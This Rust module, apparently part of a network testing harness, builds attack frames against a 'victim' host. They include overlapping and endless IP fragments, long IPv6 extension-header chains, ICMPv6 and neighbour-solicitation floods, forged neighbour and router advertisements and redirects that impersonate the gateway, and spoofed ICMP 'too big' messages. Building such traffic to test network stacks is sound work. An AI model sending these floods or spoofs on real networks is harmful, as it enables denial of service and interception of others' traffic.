//! Floods of the network layer, of both families: fragments, chains of extension headers, ICMP and
//! neighbour discovery.

use crate::flood::{ATTACKER, Maker};
use crate::frame::{self, Icmp6, Ip, Ip6, Mac};
use crate::victim::{KERNEL, KERNEL6, PORT, VICTIM, VICTIM6};
use std::net::Ipv6Addr;

/// Octets of a fragment's data.
const PIECE: u16 = 1000;
/// Fragments of a datagram that never ends: as many as offsets can tell.
const PIECES: u64 = 65;
/// Sources of fragments: each has a share of the room for them.
const SOURCES: u64 = 16;

impl Maker {
    /// Somebody beyond the gateway.
    fn off_link6(&mut self) -> Ipv6Addr {
        let r = self.rng.next();
        let [a, b, c, d] = [r, r >> 16, r >> 32, r >> 48].map(|w| w as u16);
        Ipv6Addr::new(0x2001, 0xdb8, 0x77, 0, a, b, c, d)
    }

    /// A stranger on the link.
    fn on_link6(&mut self) -> Ipv6Addr {
        let r = self.rng.next();
        Ipv6Addr::new(0xfd77, 0, 0, 0, 1, 0, r as u16, (r >> 16) as u16)
    }

    fn gateways(&self) -> (Mac, Mac) {
        (self.place.gateway, self.place.victim)
    }
}

/// A fragment: its datagram's number, its data's place and length, and whether more follows.
#[derive(Clone, Copy)]
struct Piece {
    datagram: u64,
    at: u16,
    len: u16,
    more: bool,
}

/// Which fragments overlap: in the middle, at the end, in everything.
fn overlapping(n: u64) -> Piece {
    let (at, len, more) = match n % 4 {
        0 => (0, 800, true),
        1 => (400, 800, true),
        2 => (800, 800, false),
        _ => (0, 1200, false),
    };
    Piece {
        datagram: n / 4,
        at,
        len,
        more,
    }
}

/// Fragments of a datagram that has no end, and of which one is missing.
fn unending(n: u64) -> Piece {
    Piece {
        datagram: n / PIECES,
        at: (n % PIECES) as u16 * PIECE,
        len: PIECE,
        more: true,
    }
}

fn fragment4(m: &mut Maker, p: Piece) {
    let src = std::net::Ipv4Addr::new(198, 19, 7, (p.datagram % SOURCES) as u8);
    let ip = Ip {
        protocol: 17,
        id: p.datagram as u16,
        fragment: (p.at / 8) | if p.more { 0x2000 } else { 0 },
    };
    let data = [3; 1400];
    let macs = m.gateways();
    let ends = (src, VICTIM);
    frame::ipv4(&mut m.out, macs, ends, ip, &data[..usize::from(p.len)]);
}

fn fragment6(m: &mut Maker, p: Piece) {
    let src = Ipv6Addr::new(0x2001, 0xdb8, 7, 0, 0, 0, 0, (p.datagram % SOURCES) as u16);
    let mut data = vec![17, 0];
    data.extend_from_slice(&(p.at | u16::from(p.more)).to_be_bytes());
    data.extend_from_slice(&(p.datagram as u32).to_be_bytes());
    data.resize(8 + usize::from(p.len), 3);
    let ip = Ip6 {
        next: 44,
        hop_limit: 64,
        ends: (src, VICTIM6),
    };
    let macs = m.gateways();
    frame::ipv6(&mut m.out, macs, ip, &data);
}

/// Fragments that overlap.
pub fn overlaps(m: &mut Maker) {
    fragment4(m, overlapping(m.n));
}

/// The same over IPv6.
pub fn overlaps6(m: &mut Maker) {
    fragment6(m, overlapping(m.n));
}

/// Fragments of datagrams that have no end.
pub fn endless(m: &mut Maker) {
    fragment4(m, unending(m.n));
}

/// The same over IPv6.
pub fn endless6(m: &mut Maker) {
    fragment6(m, unending(m.n));
}

/// Chains of 1 to 12 extension headers, short and long, padded, with options that nobody knows and
/// with segments left, in front of nothing.
pub fn extensions(m: &mut Maker) {
    let src = m.off_link6();
    let r = m.rng.next();
    let count = 1 + r % 12;
    let kind = |i: u64| match (i, r >> (8 + i) & 3) {
        (0, 0) => 0,
        (_, 1) => 43,
        _ => 60,
    };
    let mut chain = Vec::new();
    for i in 0..count {
        let next = if i + 1 == count { 59 } else { kind(i + 1) };
        let long = r >> (24 + i) & 7 == 0;
        let len: u8 = if long { 31 } else { 0 };
        let octets = 8 * (usize::from(len) + 1);
        let start = chain.len();
        chain.extend_from_slice(&[next, len]);
        match kind(i) {
            // A routing header of type 0, every other one with a segment left.
            43 => chain.extend_from_slice(&[0, (r >> 40) as u8 & 1, 0, 0, 0, 0]),
            // An option whose highest bits say what becomes of who does not know it, or padding.
            _ => chain.extend_from_slice(&[(r >> 44) as u8 & 0xc0 | 0x1e, 4, 0, 0, 0, 0]),
        }
        // Padding, one octet each.
        chain.resize(start + octets, 0);
    }
    let ip = Ip6 {
        next: kind(0),
        hop_limit: 64,
        ends: (src, VICTIM6),
    };
    let macs = m.gateways();
    if chain.len() <= 1400 {
        frame::ipv6(&mut m.out, macs, ip, &chain);
    } else {
        frame::ipv6(&mut m.out, macs, ip, &chain[..1400]);
    }
}

/// Echo requests of 56 to 1400 bytes over IPv6.
pub fn echo6(m: &mut Maker) {
    let src = m.off_link6();
    let len = 56 + m.rng.below(1345) as usize;
    let mut body = vec![0x12, 0x34, 0, 1];
    body.resize(4 + len, 9);
    let macs = m.gateways();
    let msg = Icmp6 {
        kind: (128, 0),
        hop_limit: 64,
        ends: (src, VICTIM6),
    };
    frame::icmp6(&mut m.out, macs, msg, &body);
}

/// Where frames to a group of IPv6 go.
fn group_mac(to: Ipv6Addr) -> Mac {
    let o = to.octets();
    [0x33, 0x33, o[12], o[13], o[14], o[15]]
}

fn solicited(addr: Ipv6Addr) -> Ipv6Addr {
    let o = addr.octets();
    let [low, last] = [
        u16::from_be_bytes([0xff, o[13]]),
        u16::from_be_bytes([o[14], o[15]]),
    ];
    Ipv6Addr::new(0xff02, 0, 0, 0, 0, 1, low, last)
}

/// A target's address behind four octets of flags, and the option with a station.
fn about(flags: u8, target: Ipv6Addr, option: u8, station: Mac) -> Vec<u8> {
    let mut body = vec![flags, 0, 0, 0];
    body.extend_from_slice(&target.octets());
    body.extend_from_slice(&[option, 1]);
    body.extend_from_slice(&station);
    body
}

/// Solicitations for the victim's address by ever new neighbours.
pub fn solicitations(m: &mut Maker) {
    let src = m.on_link6();
    let r = m.rng.next().to_be_bytes();
    let station = [2, r[0], r[1], r[2], r[3], r[4]];
    let to = match m.n % 2 {
        0 => (solicited(VICTIM6), group_mac(solicited(VICTIM6))),
        _ => (VICTIM6, m.place.victim),
    };
    let msg = Icmp6 {
        kind: (135, 0),
        hop_limit: 255,
        ends: (src, to.0),
    };
    let body = about(0, VICTIM6, 1, station);
    frame::icmp6(&mut m.out, (station, to.1), msg, &body);
}

/// The attacker says, in all the ways that there are, that it is the gateway and the clients, that
/// it is a router, and that there is a better way.
pub fn takeover6(m: &mut Maker) {
    let all = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
    let own = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xbad);
    let (kind, src, dst, body) = match m.n % 5 {
        // Unasked, to all; as if asked, to one; both override.
        0 => (136, KERNEL6, all, about(0x20, KERNEL6, 2, ATTACKER)),
        1 => (136, KERNEL6, VICTIM6, about(0xe0, KERNEL6, 2, ATTACKER)),
        2 => (135, KERNEL6, VICTIM6, about(0, VICTIM6, 1, ATTACKER)),
        3 => {
            let mut body = vec![64, 0, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0];
            body.extend_from_slice(&[1, 1]);
            body.extend_from_slice(&ATTACKER);
            (134, own, all, body)
        }
        _ => {
            let mut body = about(0, own, 2, ATTACKER);
            body.truncate(20);
            body.extend_from_slice(&KERNEL6.octets());
            (137, KERNEL6, VICTIM6, body)
        }
    };
    let to = match dst.is_multicast() {
        true => group_mac(dst),
        false => m.place.victim,
    };
    let msg = Icmp6 {
        kind: (kind, 0),
        hop_limit: 255,
        ends: (src, dst),
    };
    frame::icmp6(&mut m.out, (ATTACKER, to), msg, &body);
}

/// The first octets of a segment that the victim could have sent to `port`.
fn quoted(m: &mut Maker) -> [u8; 20] {
    let r = m.rng.next();
    let mut t = [0; 20];
    t[..2].copy_from_slice(&PORT.to_be_bytes());
    t[2..4].copy_from_slice(&(1024 + (r % 64_000) as u16).to_be_bytes());
    t[4..8].copy_from_slice(&((r >> 16) as u32).to_be_bytes());
    t[12] = 0x50;
    t[13] = 16;
    t
}

/// Routers' words that what the victim has sent to its clients, and to others, was too big.
pub fn too_big(m: &mut Maker) {
    let router = std::net::Ipv4Addr::new(198, 19, 0, 1);
    let to = match m.n % 2 {
        0 => KERNEL,
        _ => std::net::Ipv4Addr::new(198, 19, 1, m.n as u8),
    };
    let segment = quoted(m);
    let macs = m.gateways();
    let ip = Ip {
        protocol: 6,
        id: m.n as u16,
        fragment: 0x4000,
    };
    let mut quote = Vec::new();
    frame::ipv4(&mut quote, macs, (VICTIM, to), ip, &segment);
    // It was as long as the link takes.
    quote[16..18].copy_from_slice(&1500u16.to_be_bytes());
    frame::header_checksum(&mut quote);
    let mtu = [68u16, 552, 1000, 1400][m.n as usize / 2 % 4].to_be_bytes();
    let mut msg = vec![3, 4, 0, 0, 0, 0, mtu[0], mtu[1]];
    msg.extend_from_slice(&quote[14..]);
    frame::icmp(&mut m.out, macs, (router, VICTIM), msg);
}

/// The same over IPv6.
pub fn too_big6(m: &mut Maker) {
    let router = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1);
    let to = match m.n % 2 {
        0 => KERNEL6,
        _ => m.off_link6(),
    };
    let segment = quoted(m);
    let macs = m.gateways();
    let ip = Ip6 {
        next: 6,
        hop_limit: 63,
        ends: (VICTIM6, to),
    };
    let mut quote = Vec::new();
    frame::ipv6(&mut quote, macs, ip, &segment);
    quote[18..20].copy_from_slice(&1460u16.to_be_bytes());
    let mut body = [0u32, 68, 1280, 1400][m.n as usize / 2 % 4]
        .to_be_bytes()
        .to_vec();
    body.extend_from_slice(&quote[14..]);
    let msg = Icmp6 {
        kind: (2, 0),
        hop_limit: 64,
        ends: (router, VICTIM6),
    };
    frame::icmp6(&mut m.out, macs, msg, &body);
}
